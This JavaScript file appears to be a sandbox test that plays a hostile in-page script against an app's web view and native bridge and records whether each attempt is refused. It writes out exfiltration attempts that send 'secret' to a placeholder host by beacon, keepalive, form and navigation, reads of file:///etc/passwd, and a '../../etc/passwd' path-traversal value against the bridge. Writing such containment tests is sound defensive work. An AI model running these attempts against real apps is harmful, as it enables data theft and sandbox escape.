/* What a hostile script would try from within the page. Its value is a promise of what came of each attempt. */
(async () => {
  const outcome = {};
  const pause = (milliseconds) => new Promise((resolve) => { setTimeout(resolve, milliseconds); });
  const attempt = async (name, work) => {
    try {
      outcome[name] = String(await work());
    } catch {
      outcome[name] = 'refused';
    }
  };
  const event = (target, good, bad) => new Promise((resolve, reject) => {
    target.addEventListener(good, () => { resolve(good); });
    target.addEventListener(bad, () => { reject(new Error(bad)); });
    setTimeout(() => { reject(new Error('silence')); }, 3000);
  });
  await attempt('fetch', async () => (await fetch('https://app.invalid/index.html')).status);
  await attempt('fetch elsewhere', async () => (await fetch('https://example.invalid/')).status);
  await attempt('request', () => {
    const request = new XMLHttpRequest();
    request.open('GET', 'https://example.invalid/', false);
    request.send();
    return request.status;
  });
  await attempt('socket', () => event(new WebSocket('wss://example.invalid/'), 'open', 'error'));
  await attempt('event source', () => event(new EventSource('https://example.invalid/'), 'open', 'error'));
  // A beacon says only whether it was queued. Whether it went, the host sees: `policy` counts what the policy of the page stopped.
  const stopped = [];
  document.addEventListener('securitypolicyviolation', (violation) => { stopped.push(violation.effectiveDirective); });
  await attempt('beacon', async () => {
    navigator.sendBeacon('https://example.invalid/beacon', 'secret');
    await pause(300);
    return stopped.includes('connect-src') ? 'stopped by the policy' : 'not stopped';
  });
  await attempt('keepalive', async () => (await fetch('https://example.invalid/', { method: 'POST', body: 'secret', keepalive: true })).status);
  await attempt('ping', async () => {
    const link = document.createElement('a');
    link.href = '#';
    link.ping = 'https://example.invalid/ping';
    document.body.append(link);
    link.click();
    await pause(200);
    link.remove();
    return 'clicked';
  });
  for (const rel of ['preload', 'prefetch', 'modulepreload', 'stylesheet', 'icon', 'manifest']) {
    await attempt(`link ${rel}`, () => {
      const link = document.createElement('link');
      link.rel = rel;
      link.as = rel === 'preload' ? 'image' : '';
      link.href = `https://example.invalid/${rel}`;
      document.head.append(link);
      // Some are fetched when the page is idle and say nothing: silence is no way out either, the host counts.
      return Promise.race([event(link, 'load', 'error'), pause(500).then(() => { throw new Error('silence'); })]);
    });
  }
  await attempt('names asked beforehand', async () => {
    for (const rel of ['dns-prefetch', 'preconnect']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = 'https://asked-beforehand.invalid/';
      document.head.append(link);
    }
    await pause(300);
    return 'asked';
  });
  await attempt('style', async () => {
    const before = stopped.length;
    const box = document.createElement('div');
    box.style.backgroundImage = 'url(https://example.invalid/style.png)';
    document.body.append(box);
    await pause(300);
    box.remove();
    return stopped.length > before ? 'stopped by the policy' : 'not stopped';
  });
  await attempt('font', async () => String(await new FontFace('x', 'url(https://example.invalid/x.woff2)').load()));
  await attempt('service worker', async () => String(await navigator.serviceWorker.register('/index.html')));
  await attempt('shared worker', () => { const worker = new SharedWorker('/index.html'); return event(worker, 'message', 'error'); });
  await attempt('worker from memory', () => {
    const worker = new Worker(URL.createObjectURL(new Blob(["importScripts('https://example.invalid/a.js'); postMessage('ran')"], { type: 'text/javascript' })));
    return event(worker, 'message', 'error');
  });
  await attempt('inline script', async () => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.ranInline = true';
    document.body.append(script);
    await pause(100);
    return String(globalThis.ranInline);
  });
  await attempt('object', () => {
    const object = document.createElement('object');
    object.data = 'https://example.invalid/';
    document.body.append(object);
    return event(object, 'load', 'error');
  });
  await attempt('file', async () => (await fetch('file:///etc/passwd')).status);
  await attempt('frame of a file', async () => {
    const frame = document.createElement('iframe');
    frame.src = 'file:///etc/passwd';
    document.body.append(frame);
    await pause(300);
    const inside = frame.contentDocument?.body?.innerText ?? '';
    frame.remove();
    return inside.includes('root:') ? 'read' : 'nothing inside';
  });
  await attempt('file picker', async () => String(await globalThis.showOpenFilePicker()));
  await attempt('permission', async () => (await navigator.permissions.query({ name: 'geolocation' })).state);
  await attempt('clipboard', async () => String(await navigator.clipboard.readText()));
  await attempt('camera', async () => String(await navigator.mediaDevices.getUserMedia({ video: true })));
  await attempt('image', () => {
    const image = new Image();
    image.src = 'https://example.invalid/a.png';
    return event(image, 'load', 'error');
  });
  await attempt('frame', () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://example.invalid/';
    document.body.append(frame);
    return pause(300).then(() => {
      const inside = frame.contentWindow.length === 0 && frame.contentDocument === null ? 'nothing of another page' : 'empty';
      frame.remove();
      return inside === 'empty' || inside === 'nothing of another page' ? 'nothing inside' : 'loaded';
    });
  });
  await attempt('worker', () => event(new Worker('https://app.invalid/index.html'), 'message', 'error'));
  await attempt('import', async () => typeof await import('https://example.invalid/a.js'));
  await attempt('webrtc', () => typeof globalThis.RTCPeerConnection + typeof globalThis.webkitRTCPeerConnection);
  await attempt('window', () => globalThis.open('https://example.invalid/') === null);
  await attempt('form', () => {
    const form = document.createElement('form');
    form.action = 'https://example.invalid/';
    form.method = 'post';
    document.body.append(form);
    form.submit();
    return pause(300).then(() => { form.remove(); return globalThis.location.origin; });
  });
  await attempt('navigation', async () => {
    globalThis.location.href = 'https://example.invalid/secret';
    await pause(500);
    return globalThis.location.href;
  });
  await attempt('download', async () => {
    const link = document.createElement('a');
    link.href = URL.createObjectURL(new Blob(['secret']));
    link.download = 'secret.txt';
    link.click();
    await pause(300);
    return 'clicked';
  });
  await attempt('storage', () => {
    document.cookie = 'a=1';
    return document.cookie;
  });
  // A debugger's own call may evaluate; what the page does later by itself may not.
  await attempt('eval', () => new Promise((resolve, reject) => {
    setTimeout(() => {
      try {
        resolve(new Function('return 1')());
      } catch (error) {
        reject(error);
      }
    }, 20);
  }));
  await attempt('markup', () => {
    document.body.insertAdjacentHTML('beforeend', '<b>x</b>');
    return 'written';
  });
  await attempt('binding', () => typeof globalThis.panaCall);
  await attempt('frozen bridge', () => Object.isFrozen(globalThis.bridge));
  await attempt('unknown call refused', async () => (await globalThis.bridge.call('vault.path', {})).error.code === 'call-refused');
  await attempt('inherited call refused', async () => (await globalThis.bridge.call('__proto__', {})).error.code === 'call-refused');
  await attempt('path as a name refused', async () => (await globalThis.bridge.call('backup.restore', { file: '../../etc/passwd', passphrase: 'x' })).error.code === 'call-refused');
  await attempt('a path for a vault refused', async () => (await globalThis.bridge.call('vault.open', { kind: 'passphrase', text: 'x', folder: '/etc' })).error.code);
  await attempt('a path for papers refused', async () => (await globalThis.bridge.call('paper.export', { case: 'x', paper: 'y', formats: ['pdf'], forEditing: false, out: '/tmp' })).error.code);
  await attempt('locked vault', async () => { await globalThis.bridge.call('vault.lock', {}); return (await globalThis.bridge.call('cases.list', { search: '' })).error.code; });
  await attempt('no path told', async () => /\/(?:tmp|home|root|Users)|\\\\/u.test(JSON.stringify(await globalThis.bridge.call('program.state', {}))));
  return outcome;
})();
